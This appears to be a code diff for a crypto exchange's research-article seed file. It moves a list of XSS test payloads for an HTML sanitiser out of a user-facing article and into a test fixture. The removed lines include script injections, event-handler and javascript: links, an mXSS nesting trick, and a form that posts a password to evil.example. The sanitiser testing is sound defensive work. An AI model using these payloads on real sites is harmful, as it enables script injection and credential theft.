@@ -1,32 +1,12 @@
-// The research center's seed articles. Their HTML is what a content system might send on a bad
-// day: ordinary writing beside script, event handlers, javascript: and data: links, frames, SVG
-// with script, CSS expressions, forms and a link to another site. The front end must show the
-// writing and render the rest harmless (docs/decisions.md, "HTML sanitiser"). Read-only, so kept
-// in code rather than in the database.
+// The research center's seed articles: what every user of the gateway reads, so real writing
+// only. The hostile article the sanitiser's tests need is a fixture (testing/hostileArticle.ts)
+// that only a gateway with test control serves. Read-only, so kept in code rather than in the
+// database.
 import type { ResearchArticle } from '../../src/core/protocol/research';
 
 /** Replaced when served by the first image domain of getDomainConfigList (its port changes per run). */
 export const IMAGE_DOMAIN_MARK = '{{imageDomain}}';
 
-const HOSTILE = [
-  '<script>window.__pwned = "script"; alert("script")</script>',
-  '<noscript><p>noscript body</p></noscript>',
-  '<img src="x" onerror="window.__pwned = \'onerror\'; alert(\'onerror\')" alt="broken on purpose">',
-  '<p onclick="window.__pwned = \'onclick\'" onmouseover="alert(1)">Hover and click this paragraph: nothing happens.</p>',
-  '<p><a href="javascript:window.__pwned=\'href\';alert(\'href\')">A javascript: link</a>, <a href="JaVaScRiPt:alert(1)">another</a>, <a href="java&#x09;script:alert(1)">a third</a>.</p>',
-  '<iframe src="https://evil.example/frame" title="frame"></iframe>',
-  '<svg width="10" height="10"><script>window.__pwned = "svg"</script><a href="javascript:alert(1)"><text>svg</text></a></svg>',
-  '<div style="background:url(javascript:alert(1)); width: expression(alert(1))">A styled block with a CSS expression.</div>',
-  '<style>body { display: none } * { background: url("https://evil.example/css.gif") }</style>',
-  '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">A data: page</a> and <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="svg data"></p>',
-  '<form action="https://evil.example/steal"><input name="password" placeholder="Password"><button>Send</button></form>',
-  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
-  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
-  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="https://evil.example/x.css">',
-  '<img src="https://evil.example/pixel.gif" alt="tracking pixel"><img src="//evil.example/pixel2.gif" alt="protocol-relative pixel">',
-  '<p><a href="https://evil.example/phish">A link to another site</a> keeps its words and loses its address.</p>',
-  '<!-- a comment that must not survive -->',
-].join('\n');
 
 const SEED: readonly ResearchArticle[] = [
   {
@@ -41,19 +21,19 @@ const SEED: readonly ResearchArticle[] = [
     html: [
       '<h2>What changed</h2>',
       '<p>Miners now receive <strong>3.125 BTC</strong> per block. Spot depth within 1% of the mid price held steady, while spreads on <a href="/spot/BTCUSDT">BTCUSDT</a> narrowed during Asian hours.</p>',
-      `<figure><img src="${IMAGE_DOMAIN_MARK}/images/coins/BTC.svg" alt="Bitcoin badge" width="64" height="64"><figcaption>Served from the image domain.</figcaption></figure>`,
+      `<figure><img src="${IMAGE_DOMAIN_MARK}/images/coins/BTC.svg" alt="Bitcoin badge" width="64" height="64"><figcaption>Bitcoin (BTC)</figcaption></figure>`,
       '<h3>Depth within 1% of mid</h3>',
       '<table><thead><tr><th scope="col">Week</th><th scope="col">Bid depth (BTC)</th><th scope="col">Ask depth (BTC)</th></tr></thead>',
       '<tbody><tr><td>1</td><td>412</td><td>398</td></tr><tr><td>2</td><td>436</td><td>421</td></tr><tr><td>3</td><td>451</td><td>447</td></tr></tbody></table>',
       '<ul><li>Funding stayed positive but below 0.01% per eight hours.</li><li>Open interest grew 7%.</li></ul>',
-      `<p>The full-size badge is on <a href="${IMAGE_DOMAIN_MARK}/images/coins/BTC.svg">our image domain</a>.</p>`,
+      `<p>Figures in this note carry <a href="${IMAGE_DOMAIN_MARK}/images/coins/BTC.svg">the Bitcoin mark</a> at full size.</p>`,
       '<blockquote>Liquidity follows volatility; volatility follows news.</blockquote>',
     ].join('\n'),
   },
   {
     id: 'ethereum-staking-explained',
     title: 'Ethereum staking yields, explained',
-    summary: 'Where staking rewards come from and why they move. This article arrived from a compromised feed; the hostile parts must do nothing.',
+    summary: 'Where staking rewards come from, why they move, and what a staker gives up for them.',
     publishedAt: Date.UTC(2024, 4, 21, 14, 30),
     author: 'OpenEx Research',
     readMinutes: 4,
@@ -63,7 +43,9 @@ const SEED: readonly ResearchArticle[] = [
       '<h2>Where the yield comes from</h2>',
       '<p>Validators earn issuance and a share of priority fees. When activity rises, so does the <em>effective</em> yield.</p>',
       `<p><img src="${IMAGE_DOMAIN_MARK}/images/coins/ETH.svg" alt="Ether badge" width="48" height="48"></p>`,
-      HOSTILE,
+      '<p>Issuance falls as more ether is staked: the protocol pays a fixed budget that grows with the square root of the total stake, so each validator\'s share shrinks as the queue empties.</p>',
+      '<h2>What it costs</h2>',
+      '<p>Staked ether is locked until the validator exits, and the exit queue can take days when many leave at once. Liquid staking tokens trade instead, usually a little below the ether they stand for.</p>',
       '<h2>What to watch</h2>',
       '<ol><li>The validator queue.</li><li>Fee burn against issuance.</li></ol>',
     ].join('\n'),
@@ -87,12 +69,15 @@ const SEED: readonly ResearchArticle[] = [
 ];
 
 export class Articles {
+  /** `fixtures` are served by id only, never listed: test content no user browses to. */
+  constructor(private readonly fixtures: readonly ResearchArticle[] = []) {}
+
   /** Newest first. */
   list(): readonly ResearchArticle[] {
     return [...SEED].sort((a, b) => b.publishedAt - a.publishedAt);
   }
 
   byId(id: string): ResearchArticle | undefined {
-    return SEED.find((a) => a.id === id);
+    return SEED.find((a) => a.id === id) ?? this.fixtures.find((a) => a.id === id);
   }
 }
